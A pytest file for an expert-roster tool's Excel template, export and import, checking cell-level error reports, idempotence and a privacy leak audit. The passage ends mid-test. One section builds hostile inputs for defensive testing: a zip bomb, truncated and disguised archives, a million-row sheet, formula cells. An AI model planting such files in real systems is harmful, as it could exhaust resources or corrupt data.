"""Excel in and out (issue 12): real workbooks written by openpyxl here, legacy .xls fixtures, hostile files.

The template carries drop-downs, formats and protection; an export imports back without a change;
an import edits data/ as text (comments, order and style kept), is checked as a whole project first,
is idempotent, and reports every problem at its cell with data/ untouched; a public export passes the
leak audit, which does find a hidden expert or a non-public phone put into a workbook.
"""
from __future__ import annotations

import hashlib
import io
import os
import shutil
import subprocess
import sys
import time
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from conftest import EPOCH, MINIMAL, ROOT, TODAY

from generator.audit import audit, forbidden_values
from generator.check import check
from generator.cli import main
from generator.form import FORM_SHEET, LISTS_SHEET, NOTES_SHEET, ROSTER_SHEET, columns_for
from generator.load.workbook import MAX_ROWS
from generator.xlsx import XlsxError, import_workbook, write_export, write_template

FIXTURES = Path(__file__).parent / "fixtures"
HEADERS = [header for header, _column in columns_for(None)]


def tree_digest(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted((root / "data").rglob("*")) if p.is_file()}


def form(path: Path, rows: list[dict], headers: list[str] = HEADERS, *, title: bool = True) -> Path:
    """A 登记表 as a unit returns it: title rows, headers in row 3, one dict per row (header → value)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = FORM_SHEET
    if title:
        sheet["A1"] = "各级领导联系专家情况登记表"
        sheet["A2"] = "填报单位（盖章）"
    for n, header in enumerate(headers, 1):
        sheet.cell(3, n, header)
    for r, row in enumerate(rows, 4):
        for n, header in enumerate(headers, 1):
            if header in row:
                sheet.cell(r, n, row[header])
    book.save(path)
    return path


NEW_EXPERT = {"专家姓名": "孙新", "性别": "女", "出生年月": "1985-07", "工作单位": "测试大学", "系统": "教育", "地区": "东区",
              "职称级别": "副高级", "学位": "博士", "专业领域": "物理", "专家类别1": "优秀博士后研究人员",
              "联系领导": "赵区长（东区副区长）", "联系开始日期": date(2026, 7, 1), "联系结束日期": date(2028, 6, 30),
              "领导同意日期": date(2026, 6, 1), "专家同意日期": date(2026, 6, 2), "手机": "013712345678",
              "涉密": "否", "同意公开": "是"}


def run(*args: str) -> int:
    return main(list(args))


# ---- the template ----

def test_template_has_dropdowns_formats_and_protection(project, tmp_path):
    out = write_template(project.root, tmp_path / "form.xlsx", today=TODAY)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [FORM_SHEET, NOTES_SHEET, LISTS_SHEET]
    assert book[LISTS_SHEET].sheet_state == "hidden"
    sheet = book[FORM_SHEET]
    assert [c.value for c in sheet[3]] == HEADERS
    assert sheet["A1"].value == "各级领导联系专家情况登记表"
    letter = {c.value: c.column_letter for c in sheet[3]}
    lists = {}
    for check_ in sheet.data_validations.dataValidation:
        for area in str(check_.sqref).split():
            lists[area.split(":")[0].rstrip("0123456789")] = (check_.type, check_.formula1)
    for header in ("性别", "工作单位", "职称级别", "学位", "专家类别1", "专家类别3", "联系领导", "状态", "涉密", "同意公开"):
        kind, source = lists[letter[header]]
        assert kind == "list" and source.startswith(f"'{LISTS_SHEET}'!"), header
    for header in ("联系开始日期", "联系结束日期", "领导同意日期", "核对日期"):
        assert lists[letter[header]][0] == "date", header
        assert _column(sheet, letter[header]).number_format == "yyyy-mm-dd"
    for header in ("办公电话", "手机", "身份证号", "出生年月", "专家编号"):
        assert _column(sheet, letter[header]).number_format == "@", header
    options = book[LISTS_SHEET]
    values = {options.cell(1, c).value: [options.cell(r, c).value for r in range(2, options.max_row + 1)
                                         if options.cell(r, c).value] for c in range(1, options.max_column + 1)}
    assert values["联系领导"] == ["王局长（测试市人事局局长）", "李局长（测试市卫生局局长）", "赵区长（东区副区长）"]
    assert values["工作单位"][:2] == ["测试市人事局", "测试市卫生局"] and values["状态"] == ["在册", "已调动", "已退出"]
    assert values["学位"] == ["博士", "硕士", "学士", "其他"] and values["涉密"] == ["是", "否"]
    assert sheet.protection.sheet and sheet["C3"].protection.locked
    assert _column(sheet, letter["专家姓名"]).protection.locked is False  # every data cell is open
    notes = "\n".join(str(c.value) for row in book[NOTES_SHEET].iter_rows() for c in row if c.value)
    assert "《关于建立高级人才联系服务制度的通知》（渝人发〔2002〕110号）" in notes and "开头的 0 会丢失" in notes


def _column(sheet, letter: str):
    """The <col> that covers column ``letter`` (neighbouring columns of one format are one <col>)."""
    index = openpyxl.utils.column_index_from_string(letter)
    found = [d for d in sheet.column_dimensions.values() if d.min is not None and d.min <= index <= d.max]
    assert len(found) == 1, letter
    return found[0]


def test_template_of_one_unit(project, tmp_path):
    out = write_template(project.root, tmp_path / "form.xlsx", unit="east", today=TODAY)
    book = openpyxl.load_workbook(out)
    assert book[FORM_SHEET]["C2"].value == "东区"
    options = book[LISTS_SHEET]
    column = next(c for c in range(1, options.max_column + 1) if options.cell(1, c).value == "联系领导")
    assert [options.cell(r, column).value for r in range(2, 5)] == ["赵区长（东区副区长）", None, None]
    with pytest.raises(XlsxError, match="单位“nowhere”不存在"):
        write_template(project.root, tmp_path / "other.xlsx", unit="nowhere", today=TODAY)
    # an employer has no leaders of its own: its experts are contacted by others', so every leader is listed
    employer = write_template(project.root, tmp_path / "uni.xlsx", unit="uni", today=TODAY)
    options = openpyxl.load_workbook(employer)[LISTS_SHEET]
    column = next(c for c in range(1, options.max_column + 1) if options.cell(1, c).value == "联系领导")
    listed = [options.cell(r, column).value for r in range(2, options.max_row + 1) if options.cell(r, column).value]
    assert len(listed) == len(check(project.root, today=TODAY).project.leaders) > 1


# ---- export → import ----

@pytest.mark.parametrize("profile", ["public", "intranet"])
def test_export_imports_back_without_a_change(project, tmp_path, profile):
    out = write_export(project.root, tmp_path / "roster.xlsx", profile=profile, today=TODAY)
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [ROSTER_SHEET, FORM_SHEET, NOTES_SHEET, LISTS_SHEET]
    roster = [[c for c in row if c is not None] for row in book[ROSTER_SHEET].iter_rows(values_only=True)]
    assert roster[2][:3] == ["序号", "联系领导", "职务"] and ["局领导"] in roster and ["测试市人事局"] in roster
    assert (["电话"] == [h for h in roster[2] if h == "电话"]) == (profile == "intranet")
    before = tree_digest(project.root)
    result = import_workbook(out, project.root, today=TODAY)
    assert result.ok and result.changes == [] and result.written == []
    assert tree_digest(project.root) == before


@pytest.mark.parametrize("text,fits", [("材" * 32_767, True), ("材" * 32_768, False), ("𠀀" * 16_383 + "a", True),
                                       ("𠀀" * 16_384, False)])  # Excel counts UTF-16: 𠀀 is two
def test_a_text_longer_than_a_cell_is_refused_and_one_that_fits_goes_round(project, tmp_path, text, fits):
    """An Excel cell holds 32,767 characters (XlsxWriter would cut a longer text short): check refuses it at
    the field; one that fits is exported whole and imported back without a change."""
    project.replace("data/experts.yaml", "  field: 心血管\n", f"  field: {text}\n")
    result = check(project.root, today=TODAY)
    errors = [d for d in result.errors if d.code == "E116"]
    if not fits:
        assert len(errors) == 1 and errors[0].location.path == "data/experts.yaml" and errors[0].location.line
        return
    assert not result.errors
    out = write_export(project.root, tmp_path / "roster.xlsx", profile="intranet", today=TODAY)
    assert text in {c for row in openpyxl.load_workbook(out)[FORM_SHEET].iter_rows(values_only=True) for c in row}
    before = tree_digest(project.root)
    assert import_workbook(out, project.root, today=TODAY).changes == []
    assert tree_digest(project.root) == before


def test_public_export_shows_only_what_the_public_may_see(project, tmp_path):
    out = write_export(project.root, tmp_path / "public.xlsx", profile="public", today=TODAY)
    sheet = openpyxl.load_workbook(out)[FORM_SHEET]
    headers = [c.value for c in sheet[3]]
    assert "手机" not in headers and "身份证号" not in headers and "出生年月" not in headers and "同意公开" not in headers
    names = {row[2] for row in sheet.iter_rows(min_row=4, values_only=True) if row[2]}
    assert names == {"张院士", "刘院士", "陈医生", "吴工"}  # 周医生 is confidential
    intranet = openpyxl.load_workbook(write_export(project.root, tmp_path / "intranet.xlsx", profile="intranet",
                                                   today=TODAY))[FORM_SHEET]
    assert "身份证号" not in [c.value for c in intranet[3]]  # secret: collected by the template, never given out
    assert "周医生" in [row[2] for row in intranet.iter_rows(min_row=4, values_only=True)]


# ---- import ----

def test_import_appends_and_edits_as_text(project, tmp_path):
    project.replace("data/experts.yaml", "- id: e2\n", "# 第二位院士（注释须保留）\n- id: e2\n")
    original = project.read("data/experts.yaml")
    rows = [{"专家编号": "e2", "专家姓名": "刘院士", "手机": "013900001111", "电子邮箱": "liu@example.com"},
            {"专家编号": "e1", "专家姓名": "张院士", "手机": "013912340000"}, NEW_EXPERT]
    workbook = form(tmp_path / "return.xlsx", rows)
    result = import_workbook(workbook, project.root, today=TODAY)
    assert result.ok, [d.text() for d in result.diagnostics]
    assert result.written == ["data/experts.yaml", "data/pairings.yaml"]
    text = project.read("data/experts.yaml")
    assert "# 第二位院士（注释须保留）\n- id: e2\n" in text
    assert "contact: {mobile: 013912340000, email: zhang@example.com}" in text  # changed in place, flow style kept
    assert "  public_consent: true\n  contact:\n    mobile: 013900001111\n    email: liu@example.com\n- id: e3" in text
    assert text.startswith(original[:original.index("contact:")])
    assert text.endswith("- id: e6\n  name: 孙新\n  gender: 女\n  birth: 1985-07\n  employer: uni\n  system: 教育\n"
                         "  region: 东区\n  title_rank: 副高级\n  degree: 博士\n  field: 物理\n  categories: [postdoc]\n"
                         "  status: active\n  confidential: false\n  public_consent: true\n"
                         "  contact: {mobile: 013712345678}\n")  # the file writes contact on one line: so does the import
    assert project.read("data/pairings.yaml").endswith(
        "- id: p6\n  leader: l-east\n  expert: e6\n  start: 2026-07-01\n  end: 2028-06-30\n"
        "  consent: {leader: 2026-06-01, expert: 2026-06-02}\n")
    loaded = check(project.root, today=TODAY)
    assert not loaded.errors
    assert loaded.project.get("experts", "e6").contact.mobile == "013712345678"  # the leading 0 kept
    again = import_workbook(workbook, project.root, today=TODAY)
    assert again.ok and again.changes == [] and again.written == []  # idempotent


def test_dry_run_prints_and_writes_nothing(project, tmp_path, capsys):
    before = tree_digest(project.root)
    workbook = form(tmp_path / "return.xlsx", [NEW_EXPERT])
    assert run("xlsx", "import", str(workbook), str(project.root), "--dry-run", "--today", "2026-11-22") == 0
    out, err = capsys.readouterr()
    assert "新增专家 e6 孙新（data/experts.yaml，return.xlsx!登记表!C4）" in out
    assert "+- id: e6\n" in out and "+  name: 孙新\n" in out and "未写入任何文件" in err
    assert tree_digest(project.root) == before


def test_a_rule_broken_by_the_import_is_reported_at_the_cell(project, tmp_path, capsys):
    """The whole project is checked before anything is written: a fourth expert for 王局长 breaks R201."""
    before = tree_digest(project.root)
    rows = [{**NEW_EXPERT, "专家姓名": f"新专家{n}", "联系领导": "王局长（测试市人事局局长）", "专家类别1": "两院院士"}
            for n in range(1, 3)]
    workbook = form(tmp_path / "return.xlsx", rows)
    assert run("xlsx", "import", str(workbook), str(project.root), "--today", "2026-11-22") == 1
    out, err = capsys.readouterr()
    assert "return.xlsx!登记表!" in out and "R201" in out and "导入后的数据位于 data/pairings.yaml:" in out
    assert "data/ 未作任何修改" in err
    assert tree_digest(project.root) == before


@pytest.mark.parametrize("cell,value,expected", [
    ("手机", 13712345678, "return.xlsx!登记表!{手机}4: error E710 “手机”被 Excel 存成了数字 13712345678"),
    ("手机", 13712345678.0, "return.xlsx!登记表!{手机}4: error E710 “手机”被 Excel 存成了数字 13712345678"),
    ("手机", "13712345678.0", "error E710 “手机”“13712345678.0”是被 Excel 改写过的数字"),
    ("身份证号", 1.1e17, "return.xlsx!登记表!{身份证号}4: error E710 “身份证号”被 Excel 存成了数字 1.1E+17"),
    ("身份证号", "1.10101E+17", "error E710 “身份证号”“1.10101E+17”是被 Excel 改写过的数字"),
    ("联系开始日期", 46204, "error E105 “联系开始日期”46204不是日期"),
    ("联系开始日期", "2026-02-30", "error E105 “联系开始日期”“2026-02-30”不是日期"),
    ("性别", "M", "error E106 “性别”“M”不是允许的取值（男、女）"),
    ("涉密", "不涉密", "error E104 “涉密”只能填“是”或“否”"),
    ("工作单位", "不存在的大学", "error E712 “工作单位”“不存在的大学”不是已登记的单位"),
    ("联系领导", "钱局长", "error E712 “联系领导”“钱局长”不是已登记的领导"),
    ("电子邮箱", "not-an-email", "error E107 “电子邮箱”“not-an-email”格式不正确"),
    ("手机", "=A1", "warning E708"),
    ("性别", None, "return.xlsx!登记表!{性别}4: error E102 新专家缺少必填项“性别”"),
])
def test_cell_problems_are_located(project, tmp_path, capsys, cell, value, expected):
    before = tree_digest(project.root)
    row = {**NEW_EXPERT, cell: value}
    if value is None:
        del row[cell]
    workbook = form(tmp_path / "return.xlsx", [row])
    code = run("xlsx", "import", str(workbook), str(project.root), "--today", "2026-11-22")
    out, _err = capsys.readouterr()
    letter = {h: openpyxl.utils.get_column_letter(n) for n, h in enumerate(HEADERS, 1)}
    assert expected.format(**letter) in out
    if "warning" in expected:
        assert code == 0
    else:
        assert code == 1 and tree_digest(project.root) == before


def test_rows_of_one_expert_must_agree_and_namesakes_need_a_number(project, tmp_path, capsys):
    rows = [NEW_EXPERT, {**NEW_EXPERT, "联系领导": "王局长（测试市人事局局长）", "性别": "男"}]
    assert run("xlsx", "import", str(form(tmp_path / "a.xlsx", rows)), str(project.root), "--today", "2026-11-22") == 1
    out = capsys.readouterr().out
    assert "a.xlsx!登记表!D5: error E713 同一专家在 D4 填的是“女”，这里是“男”" in out
    project.replace("data/experts.yaml", "name: 吴工", "name: 张院士")  # two experts called 张院士 at 测试大学
    rows = [{"专家姓名": "张院士", "手机": "013900000000"}]
    assert run("xlsx", "import", str(form(tmp_path / "b.xlsx", rows)), str(project.root), "--today", "2026-11-22") == 1
    assert "b.xlsx!登记表!C4: error E714 有 2 位专家叫“张院士”（e1、e5），无法确定是哪一位" in capsys.readouterr().out


def test_headers_are_matched_by_text_in_any_order(project, tmp_path):
    shuffled = list(reversed(HEADERS))
    renamed = ["姓名" if h == "专家姓名" else "联系领导及职务" if h == "联系领导" else h for h in shuffled]
    row = {("姓名" if k == "专家姓名" else "联系领导及职务" if k == "联系领导" else k): v for k, v in NEW_EXPERT.items()}
    result = import_workbook(form(tmp_path / "r.xlsx", [row], renamed, title=False), project.root, today=TODAY)
    assert result.ok and len(result.changes) == 2


# ---- .xls ----

def test_legacy_xls_is_read(project):
    result = import_workbook(FIXTURES / "return.xls", project.root, today=TODAY)
    assert result.ok, [d.text() for d in result.diagnostics]
    assert result.changes[0] == "修改专家 e1 张院士的电子邮箱：zhang@example.com → zhang.new@example.com（return.xls!登记表!S4）"
    expert = check(project.root, today=TODAY).project.get("experts", "e6")
    assert expert.contact.mobile == "013712345678" and expert.id_number == "010101198507010022"


def test_legacy_xls_with_a_mangled_phone(project):
    before = tree_digest(project.root)
    result = import_workbook(FIXTURES / "mangled.xls", project.root, today=TODAY)
    assert [d.text().split("：")[0] for d in result.errors] == ["mangled.xls!登记表!R5: error E710 “手机”被 Excel 存成了数字 13712345678"]
    assert tree_digest(project.root) == before


# ---- hostile workbooks ----

def _zip(path: Path, members: dict[str, bytes], *, declared: dict[str, int] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _template_members(tmp_path: Path, project_root: Path) -> dict[str, bytes]:
    out = form(tmp_path / "base.xlsx", [NEW_EXPERT])
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _with_sheet_xml(tmp_path: Path, name: str, rows_xml: bytes, extra: bytes = b"") -> Path:
    members = _template_members(tmp_path, tmp_path)
    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>')
    header = b'<row r="3">' + b"".join(
        f'<c r="{openpyxl.utils.get_column_letter(n)}3" t="inlineStr"><is><t>{h}</t></is></c>'.encode()
        for n, h in enumerate(HEADERS, 1)) + b"</row>"
    members["xl/worksheets/sheet1.xml"] = head + header + rows_xml + b"</sheetData>" + extra + b"</worksheet>"
    return _zip(tmp_path / name, members)


def _bomb(tmp_path: Path) -> Path:
    members = _template_members(tmp_path, tmp_path)
    members["xl/media/padding.xml"] = b"\0" * (65 * 1024 * 1024)
    return _zip(tmp_path / "bomb.xlsx", members)


def _million(tmp_path: Path) -> Path:
    """A sheet whose one data cell is in row 1,048,576: a million rows to walk through."""
    return _with_sheet_xml(tmp_path, "million.xlsx",
                           b'<row r="1048576"><c r="C1048576" t="inlineStr"><is><t>x</t></is></c></row>')


def _many_rows(tmp_path: Path) -> Path:
    rows = b"".join(f'<row r="{r}"><c r="C{r}" t="inlineStr"><is><t>x{r}</t></is></c></row>'.encode()
                    for r in range(4, MAX_ROWS + 10))
    return _with_sheet_xml(tmp_path, "rows.xlsx", rows)


def _merged(tmp_path: Path) -> Path:
    path = form(tmp_path / "merged.xlsx", [NEW_EXPERT, {**NEW_EXPERT, "专家姓名": "孙二"}])
    book = openpyxl.load_workbook(path)
    book[FORM_SHEET].merge_cells("F4:F5")
    book.save(path)
    return path


def _hidden(tmp_path: Path, which: str) -> Path:
    path = form(tmp_path / f"hidden-{which}.xlsx", [NEW_EXPERT])
    book = openpyxl.load_workbook(path)
    if which == "form":
        book.create_sheet("其他")
        book[FORM_SHEET].sheet_state = "hidden"
    else:
        book.create_sheet("草稿")["A1"] = "张院士 13800000000"
        book["草稿"].sheet_state = "hidden"
    book.save(path)
    return path


def _renamed_sheet(tmp_path: Path) -> Path:
    path = form(tmp_path / "sheet1.xlsx", [NEW_EXPERT])
    book = openpyxl.load_workbook(path)
    book[FORM_SHEET].title = "Sheet1"
    book.save(path)
    return path


def _headers(tmp_path: Path, headers: list[str], name: str) -> Path:
    return form(tmp_path / name, [NEW_EXPERT], headers)


def _encrypted(tmp_path: Path) -> Path:
    path = tmp_path / "encrypted.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 500)
    return path


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    (tmp_path / name).write_bytes(data)
    return tmp_path / name


HOSTILE = {
    "text renamed .xlsx": (lambda t: _write(t, "list.xlsx", "姓名,手机\n张三,13800000000\n".encode()),
                           "list.xlsx: error E701 不是 Excel 工作簿：这是文本文件"),
    "pdf renamed .xlsx": (lambda t: _write(t, "scan.xlsx", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj"), "scan.xlsx: error E701 不是 Excel 工作簿：这是 PDF 文件"),
    "empty file": (lambda t: _write(t, "empty.xlsx", b""), "empty.xlsx: error E701 不是 Excel 工作簿：文件是空的"),
    "zip renamed .xlsx": (lambda t: _zip(t / "photos.xlsx", {"a.txt": b"x"}), "photos.xlsx: error E701 不是 Excel 工作簿：这是 zip 压缩包"),
    "docx renamed .xlsx": (lambda t: _zip(t / "letter.xlsx", {"word/document.xml": b"<w/>"}),
                           "letter.xlsx: error E701 不是 Excel 工作簿：这是Word 文档"),
    "truncated zip": (lambda t: _write(t, "cut.xlsx", form(t / "whole.xlsx", [NEW_EXPERT]).read_bytes()[:300]),
                      "cut.xlsx: error E701 文件已损坏"),
    "encrypted (OLE container)": (_encrypted, "encrypted.xlsx: error E702 工作簿已加密"),
    "OLE that is no workbook": (lambda t: _write(t, "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000),
                                "old.xls: error E701 文件已损坏，或不是 Excel 工作簿"),
    "zip bomb": (_bomb, "bomb.xlsx: error E703 工作簿解压后超过 64 MB"),
    "a million rows": (_million, "million.xlsx!登记表!A100004: error E707 登记表超过 100,000 行的上限"),
    "too many rows": (_many_rows, "rows.xlsx!登记表!A100004: error E707 登记表超过 100,000 行的上限"),
    "merged cells": (_merged, "merged.xlsx!登记表!F4: error E709 合并单元格 F4:F5"),
    "hidden 登记表": (lambda t: _hidden(t, "form"), "hidden-form.xlsx!登记表: error E704 “登记表”工作表被隐藏了"),
    "sheet missing": (_renamed_sheet, "sheet1.xlsx: error E704 缺少“登记表”工作表（现有：“Sheet1”）"),
    "header renamed": (lambda t: _headers(t, [h if h != "手机" else "手机号码" for h in HEADERS], "renamed.xlsx"),
                       "renamed.xlsx!登记表!V3: error E706 不认识的列名“手机号码”。提示：是不是“手机”？"),
    "header repeated": (lambda t: _headers(t, HEADERS + ["性别"], "twice.xlsx"),
                        f"twice.xlsx!登记表!{openpyxl.utils.get_column_letter(len(HEADERS) + 1)}3: error E706 列“性别”重复（第一次在 D3）"),
    "no header row": (lambda t: form(t / "noheader.xlsx", [], ["甲", "乙"]),
                      "noheader.xlsx!登记表!A1: error E706 在前 20 行中找不到表头行"),
}


@pytest.mark.parametrize("make,expected", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_workbooks(project, tmp_path, make, expected, capsys):
    before = tree_digest(project.root)
    path = make(tmp_path)
    started = time.monotonic()
    code = run("xlsx", "import", str(path), str(project.root), "--today", "2026-11-22")
    elapsed = time.monotonic() - started
    out, err = capsys.readouterr()
    assert expected in out, out + err
    assert code == 1 and "data/ 未作任何修改" in err
    assert tree_digest(project.root) == before
    assert elapsed < 60


def test_hidden_other_sheet_is_a_warning_and_not_read(project, tmp_path, capsys):
    assert run("xlsx", "import", str(_hidden(tmp_path, "other")), str(project.root), "--today", "2026-11-22") == 0
    out = capsys.readouterr().out
    assert "hidden-other.xlsx!草稿: warning E705 隐藏的工作表“草稿”没有读取" in out


def test_formula_value_is_read_not_evaluated(project, tmp_path, capsys):
    """A formula cell holding the value Excel saved: that value is imported, the formula never run."""
    letter = {h: openpyxl.utils.get_column_letter(n) for n, h in enumerate(HEADERS, 1)}
    texts = {h: v for h, v in NEW_EXPERT.items() if isinstance(v, str) and h not in ("手机", "联系领导")}
    row = b'<row r="4">' + b"".join(f'<c r="{letter[h]}4" t="inlineStr"><is><t>{v}</t></is></c>'.encode()
                                    for h, v in texts.items())
    row += f'<c r="{letter["手机"]}4" t="str"><f>"0137"&amp;"12345678"</f><v>013712345678</v></c></row>'.encode()
    workbook = _with_sheet_xml(tmp_path, "formula.xlsx", row)
    assert run("xlsx", "import", str(workbook), str(project.root), "--today", "2026-11-22") == 0
    out = capsys.readouterr().out
    assert f"formula.xlsx!登记表!{letter['手机']}4: warning E708 单元格是公式“=\"0137\"&\"12345678\"”：不计算公式，读取 Excel 保存的结果“013712345678”" in out
    assert check(project.root, today=TODAY).project.get("experts", "e6").contact.mobile == "013712345678"


# ---- reproducible, audited ----

def test_same_data_same_bytes(project, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    first = write_export(project.root, tmp_path / "a.xlsx", profile="intranet", today=TODAY).read_bytes()
    time.sleep(1.1)
    second = write_export(project.root, tmp_path / "b.xlsx", profile="intranet", today=TODAY).read_bytes()
    assert first == second
    assert write_template(project.root, tmp_path / "t1.xlsx").read_bytes() == \
        write_template(project.root, tmp_path / "t2.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {m.date_time for m in archive.infolist()} == {(2026, 11, 22, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2026-11-22T00:00:00Z") == 2 and "<dc:creator>expert-guide intranet</dc:creator>" in core


@pytest.mark.parametrize("epoch", [EPOCH, "0", None], ids=["commit", "before-1980", "published-day"])
def test_a_workbook_dated_in_place_is_the_workbook_written_again(project, tmp_path, monkeypatch, epoch):
    """reproducible() writes the dates and modes over XlsxWriter's zip in place (_restamped): the same bytes as writing
    every entry again (_rewritten), for each workbook the system makes; what it cannot be sure of is written again."""
    from generator.render import workbook as W

    if epoch is None:
        monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    else:
        monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    loaded = check(project.root, today=TODAY).project
    moment = W._moment(loaded).astimezone(W.timezone.utc)
    stamp = moment.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    date_time = (max(moment.year, 1980), moment.month, moment.day, moment.hour, moment.minute, moment.second)
    made = [W._Book(kind, loaded) for kind in ("export", "template", "report")]
    for book in made:
        book.sheet("表").write(0, 0, "内容")
    for data in [book.book.close() or book.out.getvalue() for book in made]:
        restamped = W._restamped(data, date_time, stamp)
        assert restamped is not None and restamped == W._rewritten(data, date_time, stamp)
        with zipfile.ZipFile(io.BytesIO(restamped)) as archive:
            assert archive.testzip() is None
            assert {m.date_time for m in archive.infolist()} == {date_time[:5] + (date_time[5] // 2 * 2,)}
            assert {m.external_attr for m in archive.infolist()} == {0o644 << 16}
        other = W._CORE_DATES.sub(lambda m: m.group(1) + b"2001-01-01T00:00:00Z" + m.group(3),
                                  zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml"))
        assert W._restamped(_replace_member(data, "docProps/core.xml", other), date_time, stamp) is None
        assert W._restamped(data + b"comment", date_time, stamp) is None


def _replace_member(data: bytes, name: str, body: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            target.writestr(member, body if member.filename == name else source.read(member))
    return out.getvalue()


def test_public_export_passes_the_audit_and_the_audit_reads_workbooks(project, tmp_path):
    """周医生 (e4) is confidential: the canary. The public export passes; a workbook holding her does not."""
    project.replace("data/experts.yaml", "confidential: true\n", "confidential: true\n  contact: {mobile: 13800138000}\n")
    site = tmp_path / "site"
    site.mkdir()
    write_export(project.root, site / "public.xlsx", profile="public", today=TODAY)
    loaded = check(project.root, today=TODAY).project
    forbidden = forbidden_values(loaded, "public", TODAY)
    assert audit(site, forbidden) == []
    leaky = openpyxl.Workbook()
    leaky.active["A1"] = "周医生"
    leaky.active["B1"] = 13800138000  # 周医生's mobile, kept as a number
    leaky.active["D1"] = "手机 013912345678"  # 张院士's non-public mobile, as text
    leaky.active["C1"] = date(1950, 1, 15)  # a date serial in the XML; 张院士's birth month 1950-01 as Excel shows it
    leaky.save(site / "leak.xlsx")
    found = {(hit.path, hit.forbidden.value) for hit in audit(site, forbidden)}
    assert ("leak.xlsx", "周医生") in found and ("leak.xlsx", "13800138000") in found
    assert ("leak.xlsx", "013912345678") in found
    assert ("leak.xlsx", "1950-01") in found
    assert not any(path == "public.xlsx" for path, _value in found)


def test_export_refuses_to_overwrite_a_file_it_did_not_write(project, tmp_path):
    other = tmp_path / "budget.xlsx"
    openpyxl.Workbook().save(other)
    with pytest.raises(XlsxError, match="不是本工具生成的Excel 工作簿"):
        write_export(project.root, other, profile="public", today=TODAY, replace=True)
    write_export(project.root, tmp_path / "mine.xlsx", profile="public", today=TODAY)
    with pytest.raises(XlsxError, match="已经存在，没有覆盖：它可能是单位填好的登记表或改过的导出"):
        write_export(project.root, tmp_path / "mine.xlsx", profile="public", today=TODAY)  # not without --replace
    write_export(project.root, tmp_path / "mine.xlsx", profile="public", today=TODAY, replace=True)  # our own: replaced
    with pytest.raises(XlsxError, match="是公开版的Excel 工作簿，不能写入内网版"):
        write_export(project.root, tmp_path / "mine.xlsx", profile="intranet", today=TODAY, replace=True)


def test_a_project_with_errors_is_not_imported_into(project, tmp_path, capsys):
    project.replace("data/experts.yaml", "gender: 男\n  birth: 1950-01", "gender: 南\n  birth: 1950-01")
    workbook = form(tmp_path / "return.xlsx", [NEW_EXPERT])
    assert run("xlsx", "import", str(workbook), str(project.root), "--today", "2026-11-22") == 1
    out, err = capsys.readouterr()
    assert "E106" in out and "项目数据本身未通过校验" in err


def test_cli_interface_used_by_publish_sh(tmp_path):
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-m", "generator", "xlsx", "--help"], capture_output=True, env=env)
    assert done.returncode == 0
    done = subprocess.run([sys.executable, "-m", "generator", "xlsx", "export", str(MINIMAL), "--profile", "intranet",
                           "-o", str(tmp_path / "roster.xlsx"), "--today", "2026-11-22"], capture_output=True, env=env)
    assert done.returncode == 0, done.stderr.decode()
    assert openpyxl.load_workbook(tmp_path / "roster.xlsx").sheetnames[0] == ROSTER_SHEET


def test_intranet_site_offers_the_workbooks_and_the_public_site_does_not(sample_intranet, sample_public):
    assert (sample_intranet / "downloads" / "form.xlsx").is_file()
    assert (sample_intranet / "downloads" / "roster.xlsx").is_file()
    page = (sample_intranet / "downloads" / "index.html").read_text(encoding="utf-8")
    assert "downloads/roster.xlsx" in page and "下载空白登记表（Excel）" in page
    assert not list(sample_public.rglob("*.xlsx"))
    assert "roster.xlsx" not in (sample_public / "downloads" / "index.html").read_text(encoding="utf-8")


# ---- the outside review of issue 12 ----

@pytest.fixture
def full_project(tmp_path: Path) -> Path:
    """This repository's own sample (categories whose names hold 、, confidential experts, split files)."""
    root = tmp_path / "full"
    root.mkdir()
    for name in ("data", "content"):
        shutil.copytree(ROOT / name, root / name)
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    return root


@pytest.mark.parametrize("profile", ["public", "intranet"])
def test_export_then_import_changes_nothing_on_the_full_sample(full_project, tmp_path, profile):
    names = [c.name for c in check(full_project, today=TODAY).project.categories]
    assert any("、" in name for name in names)  # the case: a drop-down choice that holds the list separator
    out = write_export(full_project, tmp_path / f"{profile}.xlsx", profile=profile, today=TODAY)
    before = tree_digest(full_project)
    result = import_workbook(out, full_project, today=TODAY)
    assert result.ok and not result.changes, [d.text() for d in result.diagnostics][:5]
    assert tree_digest(full_project) == before


def test_a_category_chosen_from_the_drop_down_is_one_category(project, tmp_path):
    project.append("data/categories.yaml", "- id: mid\n  name: 有突出贡献的中青年科学、技术、管理专家\n  scope: key\n"
                                           "  basis: {policy: cq-2002-110, clause: 第二条}\n")
    row = {**NEW_EXPERT, "专家类别1": "有突出贡献的中青年科学、技术、管理专家；优秀博士后研究人员"}
